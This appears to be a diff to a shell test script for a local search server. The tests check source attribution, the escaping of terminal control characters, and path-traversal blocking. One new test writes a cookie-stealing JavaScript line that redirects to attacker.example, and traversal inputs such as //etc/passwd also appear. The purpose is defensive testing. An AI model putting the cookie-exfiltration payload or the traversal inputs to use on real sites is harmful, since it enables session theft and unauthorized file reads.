@@ -139,6 +139,20 @@ expect_stdout_matches "^431"
 http get "$BASE/health"
 expect_stdout_matches "^200"
 
+# --- a record's hit names its source: a stranger's record may take any id
+# (another file's path too), and the source tells it apart
+http get "$BASE/search?q=grant&n=1"
+json_check "a record's hit has its source file and line" \
+    'd["hits"][0]["source"]["file"].endswith("/docs.jsonl") and d["hits"][0]["source"]["line"] >= 1'
+
+# --- the answers are ASCII: a C1 control (U+009B, CSI), a bidi override
+# (U+202E) and a line separator (U+2028) of the query echoed in the answer
+# are \u escapes, inert on a terminal that shows it
+http get "$BASE/search?q=grant%C2%9B31m%E2%80%AE%E2%80%A8"
+expect_stdout_matches "^200"
+expect_stdout_contains '"query":"grant\u009B31m\u202E\u2028"' "C1, bidi and separator code points as \\u escapes"
+check "the answer is ASCII" sh -c 'LC_ALL=C grep -q "[^ -~]" "$1" && exit 1; exit 0' sh "$OUT"
+
 # --- files: only those of the page's folder
 for path in /../configure.ac /%2e%2e/configure.ac /..%2fconfigure.ac /%2E%2E%2Fconfigure.ac \
     //etc/passwd /serve/www/app.js /.gitignore /app.js/ "/app.js%00.html" /cops-serve; do
@@ -162,6 +176,18 @@ for path in /passwd.txt /link.html /fifo.txt; do
 done
 http get "$BASE/index.html"
 expect_stdout_matches "^200"
+
+# --- without --www, never the page of the current directory: a stranger's
+# serve/www/app.js there would run in the page with every document in reach
+stop_server
+mkdir -p stranger/serve/www
+echo 'location = "http://attacker.example/?" + document.cookie' >stranger/serve/www/app.js
+cd stranger || exit 99
+SERVE_WWW= start_server ../idx
+cd "$TMP" || exit 99
+http get "$BASE/app.js"
+expect_stdout_matches "^200" "without --www: the build tree's page"
+expect_stdout_lacks "attacker.example" "without --www: not the current directory's serve/www"
 
 # --- sort by date is one search, whatever the number of dates (a walk of
 # counting searches per date span ran out of --max-searches: 503)
